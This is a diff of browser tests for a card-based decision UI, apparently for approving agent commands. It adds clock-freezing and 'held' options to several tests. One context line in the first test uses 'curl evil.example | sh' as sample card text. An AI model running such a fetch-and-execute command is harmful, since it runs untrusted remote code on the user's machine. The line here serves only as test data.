@@ -154,9 +154,10 @@ def test_a_double_tap_answers_no_second_card(page, site):
         return [closed, decision(id=frame["id"] + 1, title="Another", text="curl evil.example | sh")]
 
     site.answers = answers
-    browser = page(write=True)
+    browser = page(write=True, held=True)
     site.tell(decision(text="npm test"))
     browser.wait(READY)
+    browser.js("clock.stopped = true")
     x, y = click(browser, ".choice")
     browser.wait("document.querySelectorAll('.card:not(.over)').length == 1 && !!document.querySelector('.card.over')")
     click_at(browser, x, y)
@@ -165,6 +166,7 @@ def test_a_double_tap_answers_no_second_card(page, site):
     apart = f"""[...document.querySelectorAll('.card:not(.over) .choice')].every((one) =>
       !({OVERLAP})(one.getBoundingClientRect(), {{ left: {x}, right: {x} + 1, top: {y}, bottom: {y} + 1 }}))"""
     assert browser.js(apart), "its buttons lie where the last ones were not"
+    browser.js("clock.stopped = false")
     browser.wait("document.querySelector('.card:not(.over) .choice:not([aria-disabled=true])') !== null")
     assert [frame["id"] for frame in site.heard] == [7]
     browser.key("1")
@@ -176,6 +178,7 @@ def test_a_card_that_moved_takes_no_answer_until_it_stands_still(page, site):
     site.tell(decision(), decision(id=8, title="Below"))
     all_ready = "document.querySelectorAll('.choice:not([aria-disabled=true])').length == 4"
     browser.wait(all_ready)
+    browser.js("clock.stopped = true")
     moved = """
       const first = document.querySelector(".card");
       document.querySelectorAll(".card")[1].style.marginTop = "70px";
@@ -184,6 +187,7 @@ def test_a_card_that_moved_takes_no_answer_until_it_stands_still(page, site):
     browser.js(moved)
     assert site.heard == []
     browser.wait("[...document.querySelectorAll('.choice')].some((one) => one.ariaDisabled == 'true')")
+    browser.js("clock.stopped = false")
     browser.wait(all_ready)
     browser.js("document.querySelector('.choice').click()")
     site.wait(lambda: site.heard, "the answer")
@@ -260,7 +264,7 @@ def test_who_types_into_a_card_that_is_decided_elsewhere_goes_on_typing_there(pa
 
 
 def test_the_keys_of_a_card_that_is_over_write_no_message(page, site):
-    browser = page(write=True)
+    browser = page(write=True, held=True)
     site.tell(decision())
     ready(browser)
     browser.js("document.activeElement.blur()")
@@ -269,13 +273,14 @@ def test_the_keys_of_a_card_that_is_over_write_no_message(page, site):
     browser.wait("document.querySelector('.card.over') !== null")
     for key in "1x":
         browser.key(key)
+    browser.js("end(held)")
     browser.wait("!document.querySelector('.card')", "that the card goes")
     assert browser.js(f"{PROMPT} == '' && document.activeElement.id") == "scroller"
 
 
 @pytest.mark.parametrize("width", [1200, 390])
 def test_what_is_chosen_from_runs_out_of_no_card(page, site, width):
-    browser = page(write=True)
+    browser = page(write=True, held=True)
     browser.size(width, 800)
     long = "w" * 300
     question = {"question": long, "header": long, "options": [{"label": long, "description": long}]}
